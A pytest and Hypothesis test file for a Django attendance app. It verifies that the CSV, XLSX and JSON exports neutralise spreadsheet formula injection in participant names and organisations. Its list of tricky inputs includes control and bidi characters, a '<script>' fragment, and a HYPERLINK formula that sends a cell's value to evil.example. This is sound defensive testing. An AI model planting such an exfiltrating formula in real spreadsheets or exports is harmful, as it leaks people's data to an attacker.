"""Names and organisations as people (and attackers) type them: formula starts, control
characters, bidirectional overrides, markup, every script. Each export path gives them back
without running anything: CSV and XLSX cells never start a formula (XLSX read back by
openpyxl: no formula cell), JSON round-trips the text exactly."""

import csv
import io
import json

import pytest
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from attendance.exporters import AttendanceExporter
from tests.factories import AttendanceFactory, ParticipantFactory, RegistrationFactory

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TRICKY = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\x01",
    "\x07",
    "\x1b",
    "\u202e",
    "\u2066",
    "\u200f",
    "<script>",
    '"',
    "'",
    ",",
    ";",
    'HYPERLINK("http://evil.example/?x="&B2)',
]
# NUL is left out: no way in stores it (forms refuse it, and PostgreSQL text cannot hold it).
any_text_but_nul = st.text(
    alphabet=st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)),
    min_size=1,
    max_size=6,
)
hostile_text = st.lists(
    st.one_of(st.sampled_from(TRICKY), any_text_but_nul), min_size=1, max_size=6
).map("".join)

HYPOTHESIS = settings(
    max_examples=20,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture
def person_at_workshop(workshop):
    registration = RegistrationFactory(workshop=workshop, participant=ParticipantFactory())
    AttendanceFactory(registration=registration, session__workshop=workshop)
    return registration.participant


def _rename(participant, name: str, organisation: str) -> None:
    participant.full_name = name
    participant.organisation = organisation
    participant.save(update_fields=["full_name", "organisation"])


def _bytes(chunks) -> bytes:
    return b"".join(chunks)


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _assert_xlsx_has_no_formula(content: bytes) -> None:
    for row in load_workbook(io.BytesIO(content)).active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", repr(cell.value)
            assert not (isinstance(cell.value, str) and cell.value.startswith("=")), cell.value


@HYPOTHESIS
@given(name=hostile_text, organisation=hostile_text)
def test_attendance_export_csv_never_starts_a_formula(
    person_at_workshop, workshop, name, organisation
):
    _rename(person_at_workshop, name, organisation)

    export = AttendanceExporter(workshop=workshop).render("csv")

    for cell in _csv_cells(_bytes(export.chunks)):
        assert not cell.startswith(FORMULA_STARTS), repr(cell)


@HYPOTHESIS
@given(name=hostile_text, organisation=hostile_text)
def test_attendance_export_xlsx_has_no_formula_cell(
    person_at_workshop, workshop, name, organisation
):
    _rename(person_at_workshop, name, organisation)

    export = AttendanceExporter(workshop=workshop).render("xlsx")

    _assert_xlsx_has_no_formula(_bytes(export.chunks))


@HYPOTHESIS
@given(name=hostile_text, organisation=hostile_text)
def test_attendance_export_json_gives_the_text_back(
    person_at_workshop, workshop, name, organisation
):
    _rename(person_at_workshop, name, organisation)

    export = AttendanceExporter(workshop=workshop).render("json")

    rows = json.loads(_bytes(export.chunks))
    assert [(row["Full name"], row["Organisation"]) for row in rows] == [(name, organisation)]


@HYPOTHESIS
@given(name=hostile_text)
def test_admin_registration_export_has_no_formula(person_at_workshop, admin_client, name):
    _rename(person_at_workshop, name, "")

    for fmt, check in (("0", None), ("1", _assert_xlsx_has_no_formula)):
        response = admin_client.post(
            reverse("admin:participants_registration_export"),
            {"format": fmt, "resource": "0", "registrationresource_full_name": True},
        )
        assert response.status_code == 200
        content = b"".join(response.streaming_content) if response.streaming else response.content
        if check is None:
            for cell in _csv_cells(content):
                assert not cell.startswith(FORMULA_STARTS), repr(cell)
        else:
            check(content)
